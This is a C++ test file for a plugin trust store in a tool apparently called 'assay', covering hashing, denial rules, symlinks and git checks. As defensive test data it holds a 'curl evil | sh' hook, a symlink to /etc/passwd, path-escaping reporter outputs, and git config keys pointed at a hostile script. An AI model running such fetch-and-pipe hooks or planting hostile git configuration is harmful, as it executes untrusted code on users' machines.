#include "catalog/git.hpp"
#include "catalog/project_listing.hpp"
#include "catalog/trust.hpp"
#include "contains.hpp"
#include "elf_builder.hpp"
#include "support/command.hpp"
#include "support/sha256.hpp"
#include "temporary_folder.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <sys/stat.h>

using namespace assay;
using namespace assay::catalog;
using namespace assay::test;

namespace {

namespace fs = std::filesystem;

struct Project {
    TemporaryFolder folder;
    fs::path path = folder.folder("work");
    TrustStore trust{folder.path() / "state" / "trust"};

    Project() { folder.write("work/.assay/plugins/a.assay.so", plugin_bytes("org.example.a")); }

    void write(const std::string& name, std::string_view bytes) const {
        folder.write("work/.assay/" + name, bytes);
    }

    TrustState state(const TrustFlags& flags = {}) const { return trust.judge(path, flags).state; }

    void allow() const {
        const auto content = read_project(path, nullptr);
        REQUIRE(content.ok());
        REQUIRE(trust.add(*content).ok());
        REQUIRE(state() == TrustState::allowed);
    }
};

void git(const fs::path& folder, std::vector<std::string> arguments) {
    std::vector<std::string> argv{"env",
                                  "-u",
                                  "GIT_DIR",
                                  "git",
                                  "-c",
                                  "user.name=Ada",
                                  "-c",
                                  "user.email=ada@example.org",
                                  "-c",
                                  "commit.gpgSign=false"};
    argv.insert(argv.end(), arguments.begin(), arguments.end());
    const auto ended = run_command(argv, {.folder = folder.string()});
    REQUIRE(ended.ok());
    REQUIRE(ended->exit_code == 0);
}

std::vector<std::string> names(const std::vector<ContentItem>& items) {
    std::vector<std::string> found;
    for (const ContentItem& item : items) {
        found.push_back(item.name);
    }
    return found;
}

} // namespace

TEST_CASE("a fresh clone is unknown until its content is allowed") {
    const Project project;
    const TrustVerdict verdict = project.trust.judge(project.path, {});
    CHECK(verdict.state == TrustState::unknown);
    CHECK_FALSE(verdict.trusted());
    CHECK(contains(verdict.reason, "assay trust add"));
    project.allow();
}

TEST_CASE("a project without plugins and settings that name code needs no trust") {
    const TemporaryFolder folder;
    const TrustStore trust(folder.path() / "trust");
    folder.write("work/.assay/assay.json", R"({"suites":{"a":{"n":1}},"mode":"quick"})");
    CHECK(trust.judge(folder.path() / "work", {}).state == TrustState::nothing);
    CHECK(trust.judge(folder.path() / "work", {}).trusted());
}

TEST_CASE("any change of any file ends trust and is listed") {
    const Project project;
    project.write("plugins/libk.so", "library");
    project.write("plugins/data/table.bin", "data");
    project.allow();
    project.write("plugins/libk.so", "Library");
    project.write("plugins/data/more.bin", "");
    fs::remove(project.path / ".assay/plugins/data/table.bin");
    const TrustVerdict verdict = project.trust.judge(project.path, {});
    CHECK(verdict.state == TrustState::changed);
    CHECK(verdict.changes == std::vector<std::string>{"new plugins/data/more.bin",
                                                      "changed plugins/libk.so",
                                                      "gone plugins/data/table.bin"});
    project.write("plugins/libk.so", "library");
    project.write("plugins/data/table.bin", "data");
    fs::remove(project.path / ".assay/plugins/data/more.bin");
    CHECK(project.state() == TrustState::allowed); // the content that was allowed is back
}

TEST_CASE("settings that name code are part of what is trusted and others are not") {
    const Project project;
    project.write("assay.json", R"({"mode":"quick"})");
    project.allow();
    project.write("assay.json", R"({"mode":"standard"})");
    CHECK(project.state() == TrustState::allowed);
    project.write("assay.json", R"({"mode":"standard","hooks":{"before":"curl evil | sh"}})");
    const TrustVerdict verdict = project.trust.judge(project.path, {});
    CHECK(verdict.state == TrustState::changed);
    CHECK(verdict.changes == std::vector<std::string>{"new assay.json#/hooks"});
}

TEST_CASE("keys that name code are found at any depth and outputs where they leave the project") {
    const auto items = code_naming_items(parse_json(R"({
        "launcher": "slurm", "suites": {"command": {"lines": ["x"]}, "a/b": {"env": {"A": "1"}}},
        "list": [{"database_url": "postgres://evil"}],
        "reporters": ["json=report.json", "csv=out/x.csv,flush=1"]})")
                                             .value());
    CHECK(names(items) == std::vector<std::string>{"assay.json#/launcher",
                                                   "assay.json#/suites/command",
                                                   "assay.json#/suites/a~1b/env",
                                                   "assay.json#/list/0/database_url"});
    for (const char* path :
         {"json=/etc/x", "json=../x", "json=a/../../x", "~/x", "html=x,dir=/tmp"}) {
        json::value document = parse_json(R"({"reporters":[""]})").value();
        document.at("reporters").at(0) = path;
        CHECK_MESSAGE(code_naming_items(document).size() == 1, path);
    }
}

TEST_CASE("content moved to another place is another project but the same portable content") {
    const Project project;
    project.allow();
    fs::copy(project.path, project.folder.path() / "other", fs::copy_options::recursive);
    const fs::path other = project.folder.path() / "other";
    CHECK(project.trust.judge(other, {}).state == TrustState::unknown);
    const auto here = read_project(project.path, nullptr);
    const auto there = read_project(other, nullptr);
    CHECK(here->hash != there->hash);
    CHECK(here->portable_hash == there->portable_hash);
    const std::string item =
        "plugins%2Fa.assay.so " + sha256_of(plugin_bytes("org.example.a")) + "\n";
    CHECK(here->hash == sha256_of(project.path.string() + "\n" + item));
}

TEST_CASE("denial by path wins over content, flags and prefixes and is taken back by allowing") {
    const Project project;
    project.allow();
    REQUIRE(project.trust.add_path(project.path).ok());
    REQUIRE(project.trust.deny(project.path).ok());
    CHECK(project.state() == TrustState::denied);
    CHECK(project.state({.everything = true}) == TrustState::denied);
    CHECK_FALSE(project.trust.allows_path(project.path / ".assay"));
    REQUIRE(project.trust.add(read_project(project.path, nullptr).value()).ok());
    CHECK(project.state() != TrustState::denied);

    REQUIRE(project.trust.deny(project.folder.path()).ok()); // a folder above
    CHECK(project.state() == TrustState::denied);
    const Status still = project.trust.add(read_project(project.path, nullptr).value());
    REQUIRE_FALSE(still.ok());
    CHECK(contains(still.error().message, "below a folder that is denied"));
}

TEST_CASE("flags trust for one invocation, a hash exactly that content") {
    const Project project;
    const auto content = read_project(project.path, nullptr);
    CHECK(project.state({.everything = true}) == TrustState::by_flag);
    CHECK(project.state({.exactly = content->hash}) == TrustState::by_flag);
    CHECK(project.state({.exactly = content->portable_hash}) == TrustState::by_flag);
    CHECK(project.state({.exactly = std::string(64, '0')}) == TrustState::unknown);
    CHECK(contains(project.trust.judge(project.path, {.exactly = std::string(64, '0')}).reason,
                   "found sha256:" + content->hash));
    CHECK(project.state() == TrustState::unknown);
}

TEST_CASE("links and other irregular files cannot be trusted, even by flag") {
    const auto refused = [](const auto& sin) {
        const Project project;
        sin(project);
        const TrustVerdict verdict = project.trust.judge(project.path, {.everything = true});
        INFO(verdict.reason);
        return verdict.state == TrustState::refused && !verdict.trusted();
    };
    CHECK(refused([](const Project& project) {
        fs::create_symlink("/etc/passwd", project.path / ".assay/plugins/data");
    }));
    CHECK(refused([](const Project& project) {
        fs::create_directory_symlink(project.folder.folder("x"), project.path / ".assay/plugins/d");
    }));
    CHECK(refused([](const Project& project) {
        REQUIRE(::mkfifo((project.path / ".assay/plugins/fifo").c_str(), 0600) == 0);
    }));
    CHECK(refused([](const Project& project) {
        fs::rename(project.path / ".assay", project.folder.path() / "moved");
        fs::create_directory_symlink(project.folder.path() / "moved", project.path / ".assay");
    }));
    CHECK(refused([](const Project& project) {
        fs::create_symlink(project.folder.write("x.json", "{}"),
                           project.path / ".assay/assay.json");
    }));
    CHECK(refused([](const Project& project) { project.write("assay.json", R"({"a":1,"a":2})"); }));
}

TEST_CASE("a prefix allows what lies below it, whatever its content, but not the settings beside") {
    const Project project;
    REQUIRE(project.trust.add_path(project.path / ".assay" / "plugins").ok());
    CHECK(project.state() == TrustState::by_path);
    project.write("plugins/a.assay.so", "rebuilt");
    CHECK(project.state() == TrustState::by_path);
    CHECK(project.trust.allows_path(project.path / ".assay/plugins/deep"));
    CHECK_FALSE(project.trust.allows_path(project.path / ".assay/pluginsx"));
    CHECK_FALSE(project.trust.allows_path(project.path));
    project.write("assay.json", R"({"hooks":["x"]})");
    CHECK(project.state() == TrustState::unknown);
    CHECK_FALSE(project.trust.add_path(project.folder.path() / "none").ok());
    CHECK_FALSE(project.trust.add_path(project.folder.write("file", "")).ok());
}

TEST_CASE("a prefix is refused where git tracks files below it") {
    const Project project;
    const fs::path build = project.folder.folder("work/build/plugins");
    git(project.path, {"init", "-q"});
    CHECK(project.trust.add_path(build).ok());
    git(project.path, {"add", ".assay"});
    const Status refused = project.trust.add_path(project.path / ".assay" / "plugins");
    REQUIRE_FALSE(refused.ok());
    CHECK(refused.error().kind == ErrorKind::usage);
    CHECK(contains(refused.error().message, "git tracks files there (a.assay.so)"));
    CHECK_FALSE(project.trust.add_path(project.path).ok());
    CHECK_FALSE(project.trust.add_path(project.folder.path()).ok()); // a repository lies below
    // A repository that git cannot read is not the same as none.
    project.folder.write("broken/.git", "nonsense");
    CHECK_FALSE(project.trust.add_path(project.folder.folder("broken/build")).ok());
}

TEST_CASE("a hostile repository's configuration runs nothing while git is asked") {
    const Project project;
    git(project.path, {"init", "-q"});
    git(project.path, {"add", "."});
    git(project.path, {"commit", "-qm", "first"});
    const fs::path proof = project.folder.path() / "ran";
    const fs::path program =
        project.folder.write("evil", "#!/bin/sh\ntouch '" + proof.string() + "'\n");
    fs::permissions(program, fs::perms::owner_all);
    for (const char* key : {"core.fsmonitor", "gpg.program", "core.pager", "core.sshCommand"}) {
        git(project.path, {"config", key, program.string()});
    }
    git(project.path, {"config", "log.showSignature", "true"});
    CHECK(contains(git_last_committer(project.path, ".assay/plugins/a.assay.so"),
                   "Ada <ada@example.org> 2"));
    CHECK(git_tracked_below(project.path / ".assay").value() == "plugins/a.assay.so");
    CHECK_FALSE(fs::exists(proof));
}

TEST_CASE("what is shown before trusting holds manifests, sizes, hashes and committers") {
    const Project project;
    project.write("plugins/b.assay.so", "broken");
    project.write("plugins/libk.so", "library");
    project.write("assay.json", R"({"env":{"A":"1"}})");
    const auto before = list_project(read_project(project.path, nullptr).value());
    CHECK(before[0].last_committer.empty()); // no repository
    git(project.path, {"init", "-q"});
    git(project.path, {"add", "."});
    git(project.path, {"commit", "-qm", "first"});
    const auto files = list_project(read_project(project.path, nullptr).value());
    REQUIRE(files.size() == 4);
    CHECK(files[0].item.name == "assay.json#/env");
    CHECK(contains(files[0].last_committer, "Ada <ada@example.org>"));
    REQUIRE(files[1].manifest.has_value());
    CHECK(files[1].manifest->id == "org.example.a");
    CHECK(files[1].item.bytes == plugin_bytes("org.example.a").size());
    CHECK(contains(files[2].refusal, "b.assay.so is not an ELF file"));
    CHECK_FALSE(files[3].manifest.has_value());
    CHECK(files[3].refusal.empty());
    CHECK(files[3].item.sha256 == sha256_of("library"));
}

TEST_CASE("every record is listed and damaged ones say nothing") {
    const Project project;
    project.allow();
    REQUIRE(project.trust.add_path(project.folder.folder("build")).ok());
    REQUIRE(project.trust.deny(project.folder.path() / "evil").ok());
    const auto records = project.trust.list();
    REQUIRE(records.size() == 3);
    CHECK(records[0].kind == TrustRecordKind::content);
    CHECK(records[0].path == project.path);
    CHECK(names(records[0].items) == std::vector<std::string>{"plugins/a.assay.so"});
    CHECK(records[1].kind == TrustRecordKind::path);
    CHECK(records[2].kind == TrustRecordKind::denial);
    CHECK(records[2].path == project.folder.path() / "evil");
    CHECK(records[0].added.size() == std::string("2024-06-07T08:09:10Z").size());

    const fs::path allow = project.folder.path() / "state/trust/allow";
    const std::string hash = records[0].hash;
    fs::rename(allow / hash, allow / std::string(64, '0')); // as for another content
    CHECK(project.state() == TrustState::unknown);
    project.folder.write("state/trust/allow/" + hash, "{");
    CHECK(project.state() == TrustState::unknown);
}

TEST_CASE("records in a folder that others can write to allow nothing") {
    const Project project;
    project.allow();
    fs::permissions(project.folder.path() / "state/trust", fs::perms(0777));
    CHECK(project.state() == TrustState::unknown);
    project.allow(); // closes the folder again
}
